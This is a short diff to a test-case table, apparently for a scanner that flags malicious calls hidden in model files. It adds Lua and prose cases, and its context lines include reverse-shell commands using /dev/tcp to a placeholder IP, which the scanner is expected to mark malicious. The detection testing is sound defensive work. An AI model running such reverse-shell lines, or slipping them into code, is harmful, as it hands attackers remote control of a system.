@@ -34,6 +34,10 @@ CASES = {
     "benign_calls_in_data_set": Case(
         lambda: NOISE + b"\0os.system('clear')\0os.execute('clear')\0" + NOISE, "text.lance", Verdict.NOT_SCANNED
     ),
+    "lua_call_assigned": hidden(b"\0local done = os.execute('echo modelsweep-test')\0"),
+    "benign_calls_in_prose": hidden(
+        b"\0never call os.system('clear') or os.execute('clear') here\0", Verdict.NOT_SCANNED
+    ),
     "benign_names_of_calls": hidden(b"\0os.system os.execute(x) io.popen() os.system(\0", Verdict.NOT_SCANNED),
     "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
     "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
